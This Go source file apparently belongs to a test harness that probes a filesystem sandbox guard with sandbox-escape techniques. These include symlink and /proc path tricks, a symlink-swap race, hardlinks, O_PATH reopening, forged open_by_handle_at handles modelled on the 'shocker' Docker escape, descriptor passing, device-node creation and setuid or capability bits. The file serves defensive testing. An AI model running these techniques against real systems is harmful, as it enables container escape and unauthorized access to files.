package main

import (
	"errors"
	"fmt"
	"os"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

var _ = register(map[string]func([]string) error{
	"read":         func(a []string) error { return steal(a[0]) },
	"list":         func(a []string) error { _, err := os.ReadDir(a[0]); return err },
	"write":        func(a []string) error { return scribble(a[0]) },
	"remove":       func(a []string) error { return os.Remove(a[0]) },
	"symlink":      func(a []string) error { return viaSymlink(a[0]) },
	"symlink-race": func(a []string) error { return race(a[0], a[1]) },
	"hardlink":     func(a []string) error { return hardlink(a[0]) },
	"o-path":       func(a []string) error { return reopen(a[0]) },
	"handle":       func(a []string) error { return byHandle(a[0]) },
	"scm":          func(a []string) error { return passed(a[0]) },
	"truncate":     func(a []string) error { return unix.Truncate(a[0], 0) },
	"rename":       func(a []string) error { return os.Rename(a[0], a[1]) },
	"replace": func(a []string) error {
		return oneOf(
			func() error { return scribble(a[0]) },
			func() error { return os.Remove(a[0]) },
			func() error { return os.Symlink("/bin/other", a[0]+".new") },
			func() error { return os.Chmod(a[0], 0o6777) },
			func() error { return unix.Setxattr(a[0], "security.capability", make([]byte, 20), 0) },
		)
	},
	"device": func(a []string) error {
		return oneOf(
			func() error { return unix.Mknod("/workspace/mem", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 1))) },
			func() error { return unix.Mknod("/tmp/disk", unix.S_IFBLK|0o666, int(unix.Mkdev(254, 0))) },
		)
	},
	"setuid-bit": func([]string) error { return setuidBit() },
})

// scribble writes to a file, at its end, and leaves its content alone.
func scribble(path string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.Write(nil)
	return err
}

func viaSymlink(target string) error {
	return oneOf(
		func() error {
			os.Remove("/workspace/link")
			return errors.Join(os.Symlink(target, "/workspace/link"), steal("/workspace/link"))
		},
		func() error { return steal("/workspace/../" + target) },
		func() error { return steal("/proc/self/root" + target) },
		func() error { return steal("/proc/self/cwd/../../" + target) },
		func() error { return steal("/proc/thread-self/root" + target) },
	)
}

// race opens a name whose link is swapped between a permitted and a forbidden
// target all the time, by another thread.
func race(good, bad string) error {
	const name = "/workspace/race"
	var stop atomic.Bool
	defer stop.Store(true)
	os.Symlink(good, name)
	go func() {
		for i := 0; !stop.Load(); i++ {
			os.Remove("/workspace/race.new")
			os.Symlink([]string{good, bad}[i&1], "/workspace/race.new")
			os.Rename("/workspace/race.new", name)
		}
	}()
	want, err := os.ReadFile(good)
	if err != nil {
		return err
	}
	defer time.Sleep(1200 * time.Millisecond) // the guard reports so many refusals a second
	var refused error
	for range 20000 {
		b, err := os.ReadFile(name)
		if err == nil && string(b) != string(want) {
			return nil
		}
		if err != nil && !errors.Is(err, unix.ENOENT) {
			refused = err
		}
	}
	if refused == nil {
		return errors.New("the race was never lost: the attack did not run as it should")
	}
	return refused
}

// hardlink makes another name for the file, where that is writable, and below
// the file's own root, where it is not.
func hardlink(target string) error {
	link := func(to string) func() error {
		return func() error {
			os.Remove(to)
			if err := os.Link(target, to); err != nil {
				return err
			}
			return steal(to)
		}
	}
	return oneOf(link("/workspace/hard"), link("/tmp/hard"), link("/bin/hard"))
}

// reopen opens by a descriptor that gives no access, through /proc.
func reopen(target string) error {
	fd, err := unix.Open(target, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return steal(fmt.Sprintf("/proc/self/fd/%d", fd))
}

// byHandle goes past every path.
func byHandle(target string) error {
	return oneOf(
		func() error {
			h, id, err := unix.NameToHandleAt(unix.AT_FDCWD, target, 0)
			if err != nil {
				return fmt.Errorf("name_to_handle_at: %w (mount %d)", err, id)
			}
			return openHandle(h)
		},
		// A made-up handle of the root's inode, as "shocker" did against Docker.
		func() error { return openHandle(unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})) },
	)
}

func openHandle(h unix.FileHandle) error {
	dir, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		dir, err = unix.Open("/bin", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	}
	if err != nil {
		return err
	}
	defer unix.Close(dir)
	fd, err := unix.OpenByHandleAt(dir, h, unix.O_RDONLY)
	if err != nil {
		return fmt.Errorf("open_by_handle_at: %w", err)
	}
	return unix.Close(fd)
}

// passed hands a descriptor of the file to another process over a socket,
// which opens what it names.
func passed(target string) error {
	fd, err := unix.Open(target, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	p, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Sendmsg(p[0], []byte{0}, unix.UnixRights(fd), nil, 0); err != nil {
		return err
	}
	unix.Close(fd)
	oob := make([]byte, unix.CmsgSpace(4))
	_, n, _, _, err := unix.Recvmsg(p[1], make([]byte, 1), oob, 0)
	if err != nil {
		return err
	}
	ms, err := unix.ParseSocketControlMessage(oob[:n])
	if err != nil || len(ms) != 1 {
		return fmt.Errorf("no descriptor came: %v", err)
	}
	fds, err := unix.ParseUnixRights(&ms[0])
	if err != nil {
		return err
	}
	got := fds[0]
	return steal(fmt.Sprintf("/proc/self/fd/%d", got))
}

// setuidBit makes a program that would run as its owner.
func setuidBit() error {
	b, err := os.ReadFile("/bin/attack")
	if err != nil {
		return err
	}
	if err := os.WriteFile("/workspace/su", b, 0o755); err != nil {
		return err
	}
	if err := os.Chmod("/workspace/su", 0o6755); err != nil {
		return err
	}
	return canary("/workspace/su")
}

func ptr(s string) uintptr {
	b, _ := unix.BytePtrFromString(s)
	return uintptr(unsafe.Pointer(b))
}
